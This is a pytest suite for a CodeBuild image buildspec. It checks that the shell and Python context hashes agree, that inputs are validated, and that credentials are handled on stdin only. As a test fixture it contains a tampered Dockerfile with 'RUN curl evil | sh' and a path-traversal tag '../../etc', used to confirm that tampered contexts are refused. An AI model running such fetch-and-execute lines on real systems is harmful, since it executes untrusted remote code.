"""The image build's buildspec: its structure, and its scripts run in bash against fake `aws` and `docker` commands.

The hash check matters most: `deploy.py images` computes a context's tag in Python (stacksets/build_context.py) and
the build recomputes it with find/sort/sha256sum, so the two must agree byte for byte.
"""

from __future__ import annotations

import hashlib
import io
import os
import shutil
import subprocess
import zipfile
from pathlib import Path

import pytest
import yaml

from generator import buildspec
from stacksets import build_context

pytestmark = pytest.mark.skipif(not (shutil.which("bash") and shutil.which("unzip")), reason="needs bash and unzip")

TAG = "ctx-0123456789abcdef0123"
REGISTRY = "222222222222.dkr.ecr.eu-west-1.amazonaws.com"
FILES = {
    "Dockerfile": b"FROM debian:12.11-slim\n",
    "B": b"upper case sorts before lower case in byte order\n",
    "a.b": b"dot\n",
    "a-b": b"dash\n",
    "a_b": b"underscore\n",
    "ab/c": b"nested\n",
    "dir x/file y": b"spaces in names\n",
    "cont-init.d/10-config": b"#!/bin/sh\necho hi\n",
    "empty": b"",
}

# Fake aws: answers from FAKE_* variables and logs every call (one line of arguments) to $CALLS.
FAKE_AWS = r"""#!/usr/bin/env bash
echo "aws $*" >> "$CALLS"
case "$1 $2" in
  "s3 cp") cp "$FAKE_ZIP" "${@: -1}" ;;
  "ecr get-login-password") echo "ecr-password" ;;
  "ecr describe-images")
    if [[ "$FAKE_DESCRIBE" == found ]]; then echo "sha256:abc"
    elif [[ "$FAKE_DESCRIBE" == missing ]]; then
      echo "An error occurred (ImageNotFoundException) when calling the DescribeImages operation" >&2; exit 254
    else echo "An error occurred (AccessDeniedException) when calling the DescribeImages operation" >&2; exit 254
    fi ;;
  "ecr wait") exit "${FAKE_WAIT_STATUS:-0}" ;;
  "ecr describe-image-scan-findings") echo '{"HIGH": 2, "MEDIUM": 7}' ;;
  *) echo "fake aws: unexpected call $*" >&2; exit 99 ;;
esac
"""
# Fake docker: logs its arguments and what it read on stdin.
FAKE_DOCKER = r"""#!/usr/bin/env bash
stdin=""
if [[ " $* " == *" --password-stdin "* ]]; then stdin="$(cat)"; fi
echo "docker $* <<<$stdin" >> "$CALLS"
"""


def reference_tag(files: dict[str, bytes]) -> str:
    """The manifest rule written out independently: sha256sum lines sorted by path bytes, hashed, 20 hex digits."""
    lines = [f"{hashlib.sha256(files[path]).hexdigest()}  {path}\n" for path in sorted(files, key=str.encode)]
    return "ctx-" + hashlib.sha256("".join(lines).encode()).hexdigest()[:20]


def write_files(directory: Path, files: dict[str, bytes]) -> None:
    for name, content in files.items():
        path = directory / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content)


def zipped(files: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def scripts() -> dict[str, list[str]]:
    phases = yaml.safe_load(buildspec.image_buildspec())["phases"]
    return {phase: spec["commands"] for phase, spec in phases.items()}


class Build:
    """Runs buildspec scripts in bash with fake aws and docker first on PATH, as CodeBuild would run them."""

    def __init__(self, tmp_path: Path) -> None:
        self.tmp_path = tmp_path
        self.calls = tmp_path / "calls.log"
        self.context_dir = tmp_path / "context"
        bin_dir = tmp_path / "bin"
        bin_dir.mkdir()
        for name, text in (("aws", FAKE_AWS), ("docker", FAKE_DOCKER)):
            (bin_dir / name).write_text(text)
            (bin_dir / name).chmod(0o755)
        self.env = {"PATH": f"{bin_dir}:{os.environ['PATH']}", "CALLS": str(self.calls), "LC_ALL": "C.UTF-8",
                    "IMAGE_NAME": "rstudio", "IMAGE_TAG": TAG, "ARTIFACT_BUCKET": "artifacts",
                    "REGISTRY": REGISTRY, "DOCKERHUB_USERNAME": "builder",
                    "DOCKERHUB_TOKEN": "s3cr3t-t0ken", "FAKE_DESCRIBE": "missing"}  # fmt: skip

    def run(self, script: str, **env: str) -> subprocess.CompletedProcess[str]:
        # The scripts' scratch directory moves into the test's tmp_path.
        script = script.replace(buildspec.CONTEXT_DIR, str(self.context_dir))
        return subprocess.run(["bash", "-c", script], env={**self.env, **env}, capture_output=True, text=True,
                              cwd=self.tmp_path, timeout=60)  # fmt: skip

    def logged(self) -> str:
        return self.calls.read_text() if self.calls.exists() else ""


@pytest.fixture
def build(tmp_path: Path) -> Build:
    return Build(tmp_path)


# ----------------------------------------------------------------------------------------------------------------------
# Structure


def test_buildspec_is_version_0_2_in_bash_with_one_script_per_step() -> None:
    spec = yaml.safe_load(buildspec.image_buildspec())
    assert spec["version"] == 0.2
    assert spec["env"] == {"shell": "bash"}
    assert [len(commands) for commands in scripts().values()] == [3, 1]
    assert list(scripts()) == ["pre_build", "build"]


def test_every_script_stops_at_the_first_failure_and_never_traces() -> None:
    for commands in scripts().values():
        for script in commands:
            assert script.startswith("set -euo pipefail\n")
    text = buildspec.image_buildspec()
    assert "set -x" not in text and "xtrace" not in text
    # The token reaches docker on stdin only.
    assert [line.strip() for line in text.splitlines() if "DOCKERHUB_TOKEN" in line] == [
        'printf \'%s\' "$DOCKERHUB_TOKEN" | docker login --username "$DOCKERHUB_USERNAME" --password-stdin'
    ]


def test_buildspec_contains_the_hash_check_the_skip_and_the_docker_hub_message() -> None:
    text = buildspec.image_buildspec()
    assert ("actual=\"ctx-$(cd /tmp/context && find . -type f -printf '%P\\n' | LC_ALL=C sort | "
            "xargs -d '\\n' sha256sum | sha256sum | cut -c1-20)\"") in text  # fmt: skip
    assert 'if [[ "$actual" != "$IMAGE_TAG" ]]; then' in text
    assert 'aws ecr describe-images --repository-name "$IMAGE_NAME" --image-ids imageTag="$IMAGE_TAG"' in text
    assert "nothing to build" in text
    assert "aws secretsmanager put-secret-value --secret-id rstudio/central/docker-hub" in text
    assert '--secret-string \'{"username":"...","token":"..."}\'' in text
    assert 'docker build --pull -t "$image" .' in text and 'docker push "$image"' in text
    assert "aws ecr wait image-scan-complete" in text
    assert "--query imageScanFindings.findingSeverityCounts" in text


def test_no_placeholder_is_left_over() -> None:
    assert not buildspec.PLACEHOLDER.search(buildspec.image_buildspec())


# ----------------------------------------------------------------------------------------------------------------------
# The hash rule, shell against Python


def test_shell_hash_equals_the_python_manifest_rule(tmp_path: Path) -> None:
    write_files(tmp_path, FILES)
    shell = subprocess.run(["bash", "-c", buildspec.CONTEXT_HASH_COMMAND], cwd=tmp_path, capture_output=True,
                           text=True, check=True, env={"PATH": os.environ["PATH"]}).stdout.strip()  # fmt: skip
    assert "ctx-" + shell == reference_tag(FILES)


def test_shell_hash_equals_the_orchestrators_tag(tmp_path: Path) -> None:
    write_files(tmp_path, FILES)
    shell = subprocess.run(["bash", "-c", buildspec.CONTEXT_HASH_COMMAND], cwd=tmp_path, capture_output=True,
                           text=True, check=True).stdout.strip()  # fmt: skip
    assert "ctx-" + shell == build_context.context_tag(build_context.read_context(tmp_path))
    assert reference_tag(FILES) == build_context.context_tag(FILES)


# ----------------------------------------------------------------------------------------------------------------------
# The scripts, run


def test_unknown_image_is_refused(build: Build) -> None:
    check = scripts()["pre_build"][0]
    assert build.run(check).returncode == 0
    refused = build.run(check, IMAGE_NAME="evil")
    assert refused.returncode == 1
    assert "IMAGE_NAME 'evil' is not one of the images: rstudio shiny bastion" in refused.stderr
    unset = build.run(check, IMAGE_NAME="")
    assert unset.returncode == 1 and "is not one of the images" in unset.stderr


def test_malformed_tag_is_refused_before_any_download(build: Build) -> None:
    result = build.run(scripts()["pre_build"][0], IMAGE_TAG="../../etc")
    assert result.returncode == 1 and "is not a build context tag" in result.stderr
    assert build.logged() == ""


def test_context_that_matches_its_tag_is_unzipped(build: Build) -> None:
    tag = reference_tag(FILES)
    (build.tmp_path / "good.zip").write_bytes(build_context.zip_context(FILES))
    result = build.run(scripts()["pre_build"][1], IMAGE_TAG=tag, FAKE_ZIP=str(build.tmp_path / "good.zip"))
    assert result.returncode == 0, result.stderr
    assert f"matches its tag {tag}" in result.stdout
    assert build.logged().startswith(f"aws s3 cp --only-show-errors s3://artifacts/contexts/rstudio/{tag}.zip ")
    assert (build.context_dir / "dir x" / "file y").read_bytes() == FILES["dir x/file y"]


def test_context_that_does_not_match_its_tag_is_refused(build: Build) -> None:
    tag = reference_tag(FILES)
    tampered = {**FILES, "Dockerfile": b"FROM debian:12.11-slim\nRUN curl evil | sh\n"}
    (build.tmp_path / "bad.zip").write_bytes(zipped(tampered))
    result = build.run(scripts()["pre_build"][1], IMAGE_TAG=tag, FAKE_ZIP=str(build.tmp_path / "bad.zip"))
    assert result.returncode == 1
    assert f"hashes to {reference_tag(tampered)}, not {tag}: refusing to build it" in result.stderr


def test_stale_files_of_an_earlier_context_do_not_count(build: Build) -> None:
    write_files(build.context_dir, {"left-over": b"from another build\n"})
    (build.tmp_path / "good.zip").write_bytes(zipped(FILES))
    result = build.run(scripts()["pre_build"][1], IMAGE_TAG=reference_tag(FILES),
                       FAKE_ZIP=str(build.tmp_path / "good.zip"))  # fmt: skip
    assert result.returncode == 0, result.stderr
    assert not (build.context_dir / "left-over").exists()


def test_missing_docker_hub_account_fails_with_the_fix(build: Build) -> None:
    result = build.run(scripts()["pre_build"][2], DOCKERHUB_USERNAME="", DOCKERHUB_TOKEN="generated-placeholder")
    assert result.returncode == 1
    assert "rstudio/central/docker-hub" in result.stderr
    assert ("aws secretsmanager put-secret-value --secret-id rstudio/central/docker-hub \\\n"
            "    --secret-string '{\"username\":\"...\",\"token\":\"...\"}'") in result.stderr  # fmt: skip
    assert "generated-placeholder" not in result.stdout + result.stderr
    assert build.logged() == ""


def test_registry_logins_pass_passwords_on_stdin_only(build: Build) -> None:
    result = build.run(scripts()["pre_build"][2])
    assert result.returncode == 0, result.stderr
    assert "s3cr3t-t0ken" not in result.stdout + result.stderr
    docker_hub, ecr_password, ecr = build.logged().splitlines()
    assert docker_hub == "docker login --username builder --password-stdin <<<s3cr3t-t0ken"
    assert ecr_password == "aws ecr get-login-password"
    assert ecr == f"docker login --username AWS --password-stdin {REGISTRY} <<<ecr-password"


def test_existing_tag_is_not_built_again(build: Build) -> None:
    result = build.run(scripts()["build"][0], FAKE_DESCRIBE="found")
    assert result.returncode == 0, result.stderr
    assert "nothing to build" in result.stdout
    assert "docker" not in build.logged()


def test_describe_errors_other_than_not_found_fail_the_build(build: Build) -> None:
    result = build.run(scripts()["build"][0], FAKE_DESCRIBE="denied")
    assert result.returncode == 1 and "AccessDeniedException" in result.stderr
    assert "docker" not in build.logged()


def test_new_tag_is_built_pushed_and_its_scan_reported(build: Build) -> None:
    build.context_dir.mkdir()
    result = build.run(scripts()["build"][0])
    assert result.returncode == 0, result.stderr
    image = f"{REGISTRY}/rstudio:{TAG}"
    docker = [line for line in build.logged().splitlines() if line.startswith("docker")]
    assert docker == [f"docker build --pull -t {image} . <<<", f"docker push {image} <<<"]
    assert f"aws ecr wait image-scan-complete --repository-name rstudio --image-id imageTag={TAG}" in build.logged()
    assert '{"HIGH": 2, "MEDIUM": 7}' in result.stdout


def test_a_scan_that_does_not_complete_is_reported_not_fatal(build: Build) -> None:
    build.context_dir.mkdir()
    result = build.run(scripts()["build"][0], FAKE_WAIT_STATUS="255")
    assert result.returncode == 0, result.stderr
    assert "WARNING: the scan of" in result.stderr
    assert "describe-image-scan-findings" not in build.logged()
